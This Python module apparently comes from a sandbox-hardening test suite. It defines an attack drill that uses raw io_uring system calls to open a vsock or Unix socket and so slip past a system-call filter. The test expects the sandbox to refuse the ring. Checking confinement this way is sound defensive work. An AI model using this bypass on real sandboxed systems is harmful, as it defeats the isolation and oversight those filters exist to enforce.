"""Gets a socket that the filter refuses by a ring of io_uring, which no filter sees."""

from __future__ import annotations

from typing import Any

from drills.attacks.attack import Attack
from drills.attacks.steps.raw import apart, call

VSOCK, UNIX = 40, 1


def probe(given: dict[str, Any]) -> str | None:
    import ctypes
    import mmap
    import struct

    setup, enter, socket_operation = 425, 426, 45

    def made(family: int) -> int:
        told = ctypes.create_string_buffer(120)
        ring = call(setup, 2, told)
        if ring < 0:
            return 0
        queues = mmap.mmap(ring, 4096, offset=0)
        entries = mmap.mmap(ring, 4096, offset=0x10000000)
        # struct io_uring_params: the offsets of the queue of orders, and of that of answers
        orders, answers = struct.unpack_from("=10I", told, 40), struct.unpack_from("=10I", told, 80)
        done = mmap.mmap(ring, 4096, offset=0x8000000)
        order = struct.pack("=BBHiQQIIQ", socket_operation, 0, 0, family, 1, 0, 0, 0, 7)
        entries[: len(order)] = order
        struct.pack_into("=I", queues, orders[6], 0)
        struct.pack_into("=I", queues, orders[1], 1)
        if call(enter, ring, 1, 1, 1, 0, 0) < 0:
            return 0
        user, answer = struct.unpack_from("=Qi", done, answers[5])
        return 1 if user == 7 and answer >= 0 else 0

    # Where there is no vsock, that of a plain socket shows the way round.
    for family in given["families"]:
        if (apart(lambda: made(family)) or 0) > 0:  # noqa: B023  (called at once)
            return f"a socket of family {family}"
    return None


ATTACK = Attack(
    probe,
    expects="there is no ring to be had",
    given={"families": [VSOCK, UNIX]},
    uses=(call, apart),
)
